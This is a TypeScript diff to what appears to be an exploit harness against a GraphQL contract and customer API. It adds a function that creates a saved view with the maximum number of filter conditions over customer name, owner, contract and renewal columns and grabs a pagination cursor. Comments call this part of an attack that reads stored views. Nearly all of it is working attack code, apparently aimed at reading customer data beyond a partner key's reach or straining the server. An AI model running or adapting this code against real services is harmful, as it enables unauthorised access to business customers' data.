@@ -1,6 +1,10 @@
 import { randomUUID } from 'node:crypto';
+import { emptyFilter } from './attack.lists.ts';
 import { json } from './attack.operations.ts';
 import { headersOf } from './page-target.ts';
+
+const columns = ['CUSTOMER_NAME', 'COMMUNICATION_OWNER', 'CONTRACT_TYPE', 'STATUS', 'RENEWAL_DEADLINE'];
+const mostLists = 16;
 
 /** Customers of the key's partner. */
 export async function customerIdsOf(url: string, token: string): Promise<string[]> {
@@ -19,7 +23,6 @@ export async function customerIdsOf(url: string, token: string): Promise<string[
 /** Stores views that are as large as the server takes, for the attack that reads them. */
 export async function storeViews(url: string, token: string): Promise<number> {
   const filter = { customerId: { in: Array.from({ length: 250 }, () => `cus_${randomUUID()}`) } };
-  const columns = ['CUSTOMER_NAME', 'COMMUNICATION_OWNER', 'CONTRACT_TYPE', 'STATUS', 'RENEWAL_DEADLINE'];
   let stored = 0;
   for (let index = 0; index < 20; index += 1) {
     const body = json(
@@ -34,4 +37,19 @@ export async function storeViews(url: string, token: string): Promise<number> {
     else if (index === 0) console.log(JSON.stringify(answer).slice(0, 300));
   }
   return stored;
+}
+
+/** A view of as many conditions as one can have, and the position of the last change of the list, for lists that begin there. */
+export async function listPlaces(url: string, token: string): Promise<{ viewId: string; cursor: string }> {
+  const body = json(
+    `mutation ($input: CreateSavedViewInput!) { createSavedView(input: $input) { savedView { id } userErrors { message }
+      query { upcomingContractChanges(last: 1, orderBy: [{ field: EFFECTIVE_DATE, direction: DESC }]) { edges { cursor } } } } }`,
+    { input: { name: 'Many conditions', columns, filter: emptyFilter(mostLists) } },
+  );
+  const answer = await fetch(`${url}/graphql`, { method: 'POST', headers: headersOf(token), body });
+  const { data } = (await answer.json()) as {
+    data: { createSavedView: { savedView: { id: string }; query: { upcomingContractChanges: { edges: { cursor: string }[] } } } };
+  };
+  const { savedView, query } = data.createSavedView;
+  return { viewId: savedView.id, cursor: query.upcomingContractChanges.edges[0]!.cursor };
 }
